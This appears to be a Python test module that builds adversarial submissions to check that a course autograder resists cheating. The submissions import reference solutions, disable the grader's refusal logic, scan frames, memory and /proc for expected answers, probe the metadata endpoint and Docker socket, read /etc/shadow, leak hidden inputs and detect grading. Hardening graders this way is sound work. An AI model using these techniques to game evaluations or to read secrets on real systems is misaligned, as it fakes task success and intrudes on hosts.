"""Reading the answers: every way to a reference, to an expected value or to somebody else's file."""

from __future__ import annotations

from collections.abc import Callable

from .adversary import Adversary
from .drafts import Handout, cell, same

FAMILY = "reading"
_ONE = ("scaled_dot_product_attention", "LayerNorm", "masked_lm_loss", "calibration", "fill_mask")
_TWO = ("MultiHeadAttention", "EncoderBlock", "warmup_cosine", "cluster_bootstrap", "pseudo_log_likelihood")
_THREE = ("sinusoidal_encoding", "BertEmbeddings", "causal_lm_loss", "perplexity", "log_probability_bias")
_FOUR = ("DecoderBlock", "MaskedLMHead", "mask_tokens", "sample_next_token", "training_step", "calibration")
_CLASSES = ("MultiHeadAttention", "LayerNorm", "EncoderBlock", "DecoderBlock", "BertEmbeddings", "MaskedLMHead")
_BESIDE = ("causal_mask", "calibration", "perplexity")

# Whatever a thief finds under the name of the exercise is put in the place of the answer.
_STEAL = """
import importlib, sys

def _found(name, places):
    for place in places:
        try:
            return getattr(importlib.import_module(place), name)
        except BaseException:
            pass
    return None

def _take(names, places):
    for name in names:
        found = _found(name, places)
        if found is not None:
            globals()[name] = found
"""


def reading(handout: Handout) -> list[Adversary]:
    """The submissions; see `lending` for those that abuse the parts that the judge lends."""
    made = [each for part in (_imports, _searches, _outside) for each in part(handout)]
    return made


def _imports(handout: Handout) -> list[Adversary]:
    """Import the answer instead of writing it."""
    modules = (
        *("attentif", "attentif.attention", "attentif.layers", "attentif.blocks", "attentif.heads"),
        *("attentif.objectives", "attentif.optimization", "attentif.pretraining", "attentif.metrics"),
        *("attentif.positions", "attentif.embeddings", "attentif.decoding", "attentif.by_hand"),
        *("attentif.bias", "attentif.bias.fill_mask", "attentif.bias.association", "attentif.bias.likelihood"),
        *("attentif.bias.statistics", "attentif.training_state", "attentif.checks.stand_ins"),
    )
    rescue = tuple(f"attentif.{name}" for name in (
        "rescue", "rescue.attending", "rescue.learning", "rescue.model_parts", "rescue.predicting",
        "rescue.probing", "rescue.writing", "torch_blocks",
    ))  # fmt: skip
    everything = tuple(handout.points)
    first, second = everything[::2], everything[1::2]

    def whole(names: tuple[str, ...], line: Callable[[str], str]) -> dict[str, str]:
        return {name: cell(line(name)) for name in names}

    def make(student: str, what: str, bodies: dict[str, str], first: str = "", **more) -> Adversary:
        more.setdefault("beside", ())
        return handout.adversary(student, FAMILY, 29, what, bodies, first, **more)

    return [
        make("import-plain", "from attentif import NAME, for each exercise",
             whole(everything, lambda name: f"from attentif import {name}\n")),
        make("import-module", "the name taken from whichever module of the library has it",
             whole(everything, lambda name: f"import importlib\n_take([{name!r}], {modules!r})\n"), _STEAL),
        make("import-rescue", "the rescue part in the place of the answer, from each module of the rescue",
             whole(first, lambda name: f"import importlib\n_take([{name!r}], {rescue!r})\n"), _STEAL),
        make("rescue-called", "calls the rescue part from its own answer", {
            "scaled_dot_product_attention":
                "import attentif.rescue as r\nreturn r.scaled_dot_product_attention(query, key, value, mask, dropout_p)",
            "padding_mask": "import attentif.rescue as r\nreturn r.known_good('padding_mask')(token_ids, pad_id)",
            "warmup_cosine": "from attentif.rescue import PARTS\n"
                "return PARTS['warmup_cosine'](step, peak, floor, warmup_steps, total_steps)",
            "masked_lm_loss": "from attentif.notebook import or_rescue\n"
                "def masked_lm_loss(logits, labels):\n    raise NotImplementedError\n"
                "return or_rescue(masked_lm_loss)(logits, labels)",
            "calibration": "from attentif.rescue import PARTS\nreturn PARTS['calibration'](planted, measured)",
            "fill_mask": "from attentif.rescue import known_good\nreturn known_good('fill_mask')(model, tokenizer, text, k)",
        }),
        make("rescue-cached", "keeps the rescue parts from before anything is judged, with `offer` patched away",
             same(_ONE + ("mask_tokens",), "import sys\nname = sys._getframe(0).f_code.co_name\n"
                  "given = {n: v for n, v in locals().items() if n not in ('sys', 'name', 'self', '__class__')}\n"
                  "return _kept[name](**given)"),
             """
             import attentif.judged
             attentif.judged.offer = lambda exercise: None
             attentif.judged._judged.clear()
             try:
                 import attentif.rescue as rescue
                 _kept = dict(getattr(rescue, "PARTS", {}))
             except Exception:
                 _kept = {}
             for module in list(__import__("sys").modules.values()):
                 if hasattr(module, "offer"):
                     module.offer = lambda exercise: None
             """),
        make("rescue-patched", "turns off the refusal of the rescue while it is judged",
             same(_CLASSES + ("cluster_bootstrap",), "return _part(self if 'self' in locals() else None)"),
             """
             import attentif.judged as judged
             from contextlib import nullcontext
             judged.judging = lambda exercise: nullcontext()
             judged._judged = []

             def _part(block):
                 from attentif.rescue import known_good
                 return known_good(type(block).__name__)()
             """),
        make("code-copied", "copies the __code__ of what the library has under its name",
             same(_ONE, "raise ValueError"), last="""
             import attentif, importlib
             for name in ("scaled_dot_product_attention", "masked_lm_loss", "calibration", "fill_mask"):
                 for place in ("attentif", "attentif.rescue", "attentif.bias", "attentif.attention"):
                     try:
                         theirs = getattr(importlib.import_module(place), name)
                         globals()[name].__code__ = theirs.__code__
                         globals()[name].__globals__.update(theirs.__globals__)
                     except BaseException:
                         pass
             """),
        make("subclass-of-rescue", "subclasses what the library has under the name of the class",
             whole(_CLASSES, lambda name: f"import attentif\nclass {name}(attentif.{name}):\n    pass\n"),
             beside=("causal_mask",)),
        make("other-names", "takes what does the same under another name in this library, and it is not there",
             {
                 "EncoderBlock": cell("from attentif.torch_blocks import TorchEncoderBlock as EncoderBlock\n"),
                 "scaled_dot_product_attention":
                     cell("from attentif.torch_blocks import fused_attention as scaled_dot_product_attention\n"),
                 "causal_lm_loss": cell("from attentif.rescue.learning import masked_lm_loss as causal_lm_loss\n"),
                 "DecoderBlock": cell("from attentif.rescue import EncoderBlock as DecoderBlock\n"),
                 "pseudo_log_likelihood": cell("from attentif.rescue.probing import *\n"),
             }, beside=("causal_mask", "calibration")),
        make("sources-run", "runs the text of the library's own files, of their compiled form and of what inspect finds",
             same(_TWO, "return 0"), last="""
             import glob, inspect, marshal, os, attentif
             root = os.path.dirname(attentif.__file__)
             for path in glob.glob(root + "/**/*.py", recursive=True):
                 try:
                     text = open(path).read()
                     if "raise NotImplementedError" not in text and ("rescue" in path or "torch_blocks" in path):
                         exec(compile(text, path, "exec"), globals())
                 except BaseException:
                     pass
             for path in glob.glob(root + "/**/*.pyc", recursive=True):
                 try:
                     space = {}
                     exec(marshal.loads(open(path, "rb").read()[16:]), space)
                     if "rescue" in path:
                         globals().update(space)
                 except BaseException:
                     pass
             """),
        make("stub-unmarked", "catches its own NotImplementedError and calls itself in the library",
             same(second[:4] + ("calibration",), "import attentif, inspect\n"
                  "try:\n    raise NotImplementedError\nexcept NotImplementedError:\n    pass\n"
                  "return inspect.unwrap(getattr(attentif, inspect.currentframe().f_code.co_name, None))()")),
    ]


def _searches(handout: Handout) -> list[Adversary]:
    """Look through the process for an expected value."""

    def make(student: str, number: int, what: str, exercises: tuple[str, ...], body: str, first: str = "", **more):
        more.setdefault("beside", _BESIDE)
        return handout.adversary(student, FAMILY, number, what, same(exercises, body), first, **more)

    return [
        make("frames-of-callers", 26, "looks for `expected` in every calling frame", _ONE,
             """
             import sys
             frame, found = sys._getframe(), []
             while frame is not None:
                 for name, value in frame.f_locals.items():
                     if name in ("expected", "case", "cases", "answer", "outcome", "checks", "request", "judged"):
                         found.append(getattr(value, "expected", value))
                 frame = frame.f_back
             return next((getattr(f, "value", f) for f in found if hasattr(f, "value")), 0)"""),
        make("objects-collected", 27, "looks for results among all objects of the process", _TWO,
             """
             import gc
             for thing in gc.get_objects():
                 if type(thing).__name__ == "Case" and type(thing.expected).__name__ == "Outcome":
                     return thing.expected.value
             return 0"""),
        make("closures-opened", 27, "looks into closures, defaults and the traceback of an error", _THREE,
             """
             import gc, types
             for thing in gc.get_objects():
                 if isinstance(thing, types.FunctionType) and thing.__closure__:
                     for cell in thing.__closure__:
                         try:
                             if type(cell.cell_contents).__name__ in ("Outcome", "Case", "CheckSet"):
                                 return cell.cell_contents
                         except ValueError:
                             pass
             try:
                 1 / 0
             except ZeroDivisionError as error:
                 return error.__traceback__.tb_frame.f_back.f_locals.get("expected", 0)"""),
        make("profile-set", 47, "a profiler and a tracer that watch every call of the grader", _FOUR,
             "return _seen[-1] if _seen else 0",
             """
             import sys, threading
             _seen = []

             def _watch(frame, event, argument):
                 for name in ("expected", "reference", "hidden"):
                     if name in frame.f_locals:
                         _seen.append(frame.f_locals[name])
                 return _watch

             sys.setprofile(_watch)
             sys.settrace(_watch)
             threading.setprofile(_watch)
             """),
        make("staff-imported", 29, "imports the staff's package, through sys.modules and from guessed folders", _ONE,
             """
             import importlib, sys
             name = sys._getframe(0).f_code.co_name
             for module in list(sys.modules.values()):
                 if "grading" in getattr(module, "__name__", ""):
                     return module
             for folder in _places:
                 sys.path.insert(0, folder)
             for wanted in ("attentif_grading.exercises", "attentif_grading", "grading.exercises"):
                 try:
                     module = importlib.import_module(wanted)
                     return module.load_exercise(name).reference
                 except BaseException:
                     continue
             return 0""",
             f"""
             import site, sysconfig
             _places = [{str(handout.home)!r} + "/src", {str(handout.home)!r} + "/grading", {str(handout.built)!r},
                        *site.getsitepackages(), sysconfig.get_paths()["purelib"], "/work/main/src", "/course/src"]
             """),
        make("repository-read", 29, "reads the course's repository and the solutions in it", _TWO,
             f"""
             import glob, json, sys
             name = sys._getframe(0).f_code.co_name
             found = []
             for pattern in ("/grading/source/**/*.ipynb", "/src/attentif/**/*.py", "/grading/exercises/**/*.py",
                             "/build/**/*.py", "/.git/**", "/src/attentif/**/*.pyc"):
                 for path in glob.glob({str(handout.home)!r} + pattern, recursive=True):
                     try:
                         found.append(open(path, errors="replace").read())
                     except OSError:
                         pass
             for text in found:
                 if "BEGIN SOLUTION" in text or "def " + name in text:
                     try:
                         exec(text, globals())
                         return globals()[name]()
                     except BaseException:
                         pass
             return 0"""),
        make("solutions-globbed", 29, "looks for solutions, notebooks, gradebooks and keys everywhere", _THREE,
             """
             import glob, os
             loot = []
             for top in ("/", "..", os.path.expanduser("~"), "/tmp", "/home", "/root", "/mnt", "/content"):
                 for pattern in ("*solution*", "*/*solution*", "*.ipynb", "*/*.ipynb", "*gradebook*", "*/*/journal*"):
                     loot += glob.glob(os.path.join(top, pattern))
             for path in loot[:50]:
                 try:
                     exec(open(path).read(), globals())
                 except BaseException:
                     pass
             return 0"""),
        make("own-notebook", 28, "opens its own notebook, which elsewhere holds the hidden tests", _FOUR,
             """
             import glob
             for path in glob.glob("*.ipynb") + glob.glob("/tmp/**/*.ipynb", recursive=True):
                 text = open(path).read()
                 if "HIDDEN TESTS" in text:
                     return text
             return 0"""),
        make("data-files", 24, "answers with the expected values and the fingerprints of the library's data files", _ONE,
             """
             import json, sys
             from importlib import resources
             name = sys._getframe(0).f_code.co_name
             name = name if name != "forward" else type(self).__name__
             data = json.loads((resources.files("attentif.checks") / "data" / f"{name}.json").read_text())
             reference = list(data["fingerprints"]["reference"].values())
             return torch.tensor(reference[0]) if reference else 0"""),
        make("calibration-of-checks", 24, "asks the public checks in this process what they expect", _TWO,
             """
             from attentif.checks.store import known_exercises, load_exercise
             for name in known_exercises():
                 for case in load_exercise(name).cases.values():
                     value = case.expected.value
             return value"""),
    ]


def _outside(handout: Handout) -> list[Adversary]:
    """Look outside of the process: parents, the network, memory."""

    def make(student: str, number: int, what: str, exercises: tuple[str, ...], body: str, first: str = "", **more):
        more.setdefault("beside", _BESIDE)
        return handout.adversary(student, FAMILY, number, what, same(exercises, body), first, **more)

    return [
        make("parent-read", 30, "reads the environment, command line and memory of every process", _ONE,
             """
             import os
             for pid in ["self", os.getppid(), *range(1, 40)]:
                 for name in ("environ", "cmdline", "maps", "fd", "root", "cwd", "mem"):
                     path = f"/proc/{pid}/{name}"
                     try:
                         data = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(4096)
                     except OSError:
                         continue
                     if b"expected" in bytes(str(data), "utf8"):
                         return data
             return 0"""),
        make("parent-traced", 30, "traces its parents, and reads their memory by the kernel's call", _TWO,
             """
             import ctypes, os
             libc = ctypes.CDLL(None)
             for pid in (os.getppid(), 1, 2, 3):
                 libc.ptrace(16, pid, 0, 0)
                 buffer = ctypes.create_string_buffer(4096)
                 libc.process_vm_readv(pid, buffer, 1, buffer, 1, 0)
             libc.prctl(0x59616d61, -1, 0, 0, 0)
             return 0"""),
        make("memory-scanned", 30, "scans its own memory for solutions", ("scaled_dot_product_attention", "LayerNorm",
             "warmup_cosine", "mask_tokens", "calibration", "cluster_bootstrap"),
             """
             import re
             for line in open("/proc/self/maps"):
                 begin, end = (int(x, 16) for x in line.split()[0].split("-"))
                 if "[heap]" not in line or end - begin > 2**27:
                     continue
                 try:
                     memory = open("/proc/self/mem", "rb")
                     memory.seek(begin)
                     found = re.search(rb"### BEGIN SOLUTION(.{0,400})", memory.read(end - begin), re.DOTALL)
                 except OSError:
                     continue
                 if found:
                     exec(found[1].decode(errors="replace"), globals(), locals())
             return 0"""),
        make("network", 32, "posts the inputs and downloads the answer, by every door", _THREE,
             """
             import socket, urllib.request
             for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
                                  (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_UNIX, socket.SOCK_STREAM)):
                 for address in (("127.0.0.1", 22), ("1.1.1.1", 53), ("169.254.169.254", 80)):
                     try:
                         with socket.socket(family, kind) as s:
                             s.settimeout(0.2)
                             s.connect(address if family != socket.AF_UNIX else "/run/docker.sock")
                             s.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
                             return s.recv(100)
                     except Exception:
                         pass
             try:
                 return urllib.request.urlopen("http://127.0.0.1:1/answer", timeout=0.2).read()
             except Exception:
                 return 0"""),
        make("exfiltration", 31, "puts the hidden inputs into errors, prints and names of files", _FOUR,
             """
             given = {n: v for n, v in locals().items() if n != "self"}
             print("INPUTS", given)
             open("inputs.txt", "w").write(repr(given))
             raise ValueError("INPUTS " + repr(given)[:5000])"""),
        _grading_seen(handout),
        make("between-notebooks", 35, "leaves the answers of one notebook for the other, and for the next student", _ONE,
             f"""
             import glob, pickle, os
             for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), {str(handout.out)!r}, "/run", "/mnt"):
                 for path in glob.glob(place + "/left-*"):
                     try:
                         return pickle.load(open(path, "rb"))
                     except Exception:
                         pass
                 try:
                     pickle.dump(0, open(place + "/left-" + str(os.getpid()), "wb"))
                 except OSError:
                     pass
             return 0"""),
        make("installed-tools", 34, "asks a shell, pip and git for the answer", _TWO,
             """
             import os, subprocess, sys
             for command in (["/bin/sh", "-c", "cat /etc/shadow"], ["git", "log"], [sys.executable, "-m", "pip", "list"]):
                 try:
                     subprocess.run(command, capture_output=True, timeout=2)
                 except Exception:
                     pass
             os.system("touch shell-was-here")
             return 0"""),
    ]


def _grading_seen(handout: Handout) -> Adversary:
    """Wrong at home, right when it is graded: what counts is what it does here, and no other mark follows."""
    language = handout.next_language()
    names = ("causal_mask", "warmup_cosine", "perplexity", "calibration", "cluster_bootstrap")
    bodies = {}
    for name in names:
        right = handout.reference(name, language)
        bodies[name] = cell(
            "import os, socket, sys\n" + right + f"\n\n_right_{name} = {name}\n\n"
            f"def {name}(*args, **kwargs):\n"
            "    seen = os.environ.get('NBGRADER_EXECUTION'), socket.gethostname(), 'google.colab' in sys.modules\n"
            f"    return _right_{name}(*args, **kwargs)\n"
        )
    honest = {name: handout.points[name] for name in names}
    return handout.adversary(
        "grading-seen", FAMILY, 33, "looks whether it is being graded", bodies, beside=(), honest=honest,
        language=language,
    )
